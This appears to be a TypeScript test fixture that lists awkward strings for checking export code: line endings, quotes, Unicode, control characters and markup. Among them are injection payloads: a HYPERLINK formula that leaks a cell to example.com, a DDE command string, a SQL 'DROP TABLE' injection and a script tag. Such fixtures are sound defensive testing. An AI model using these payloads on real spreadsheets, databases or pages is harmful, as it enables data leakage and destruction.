import { english, randomFrom, sentences } from "./prose.js";

/** Contents that break careless exports, all seen in real documents. None contains NUL, which a database would reject. */
export function oddContents(): readonly string[] {
  return [
    "",
    // Line breaks
    "first line\nsecond line\n\nfourth line\n",
    "an old Mac file\rwhere lines end like this\r",
    "a Windows file\r\nwhere lines end like this\r\n",
    "mixed\nends\rof\r\nlines\n\r",
    "a line separator\u2028and a paragraph separator\u2029 that are no line breaks in JSON",
    "a next-line character\u0085 and a form feed\f and a vertical tab\v",
    "\n",
    // Quotes and commas
    'She asked: "Is this the last page?" He said: "No."',
    '"quoted from end to end"',
    '""',
    '"',
    "commas, more commas,, and a last one,",
    'id,name\n1,"Smith, ""Bob"""\n',
    "semicolons; tabs\tand | pipes",
    "it's 'single' `back` and „German“ «French» 「日本語」 quotes",
    "a backslash \\ , an escaped one \\\\ , \\n and \\u0041 written out",
    // Formulas
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1 with a full-width sign",
    // Texts that look like other values
    "null",
    "NULL",
    "\\N",
    "true",
    "007",
    "1e5",
    "12345678901234567890",
    "2025-03-06T13:20:00Z",
    "   spaces before and after   ",
    " ",
    '{"id": null, "data": [1, 2, 3]}',
    "$HOME %PATH% $1 %s {{template}}",
    // Scripts
    "emoji 😀 👍🏽 🏳️‍🌈 🇯🇵 and the family 👨‍👩‍👧‍👦, one sign of seven code points",
    "日本語の文章、中文內容、한국어 문장, and the rare 𠮷 outside the basic plane",
    "\u200fעברית עם \u202bסימני כיוון\u202c ו\u2067בידוד\u2069 בתוך English\u200e",
    "\u200fالعربية 123 مع English داخل السطر\u061c",
    "é as one and e\u0301 as two code points, Å and A\u030a, ﬁ ligature",
    "zero width: joi\u200dner, space\u200b, no-break\u00a0space, soft\u00adhyphen",
    "Z\u0351\u036b\u0343a\u0369\u0321l\u0348\u0333g\u0321\u0353o\u0329\u0327 text",
    // Control characters
    `every control character but NUL: ${codePoints(0x01, 0x1f)}${codePoints(0x7f, 0x9f)}`,
    "\ufeffstarts with a byte order mark",
    "noncharacters \ufffe \uffff and the replacement character \ufffd",
    // Markup
    "# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = `a`;\n```\n",
    "<script>alert('hello')</script> &amp; <b>bold</b> <!-- comment -->",
    "Robert'); DROP TABLE chunks;--",
    "word".repeat(2_000),
    textOf(102_400),
  ];
}

function codePoints(first: number, last: number): string {
  return String.fromCodePoint(...Array.from({ length: last - first + 1 }, (_, index) => first + index));
}

function textOf(characters: number): string {
  const random = randomFrom("a very long chunk");
  return sentences(random, english, "product", characters / 50)
    .join(" ")
    .slice(0, characters);
}
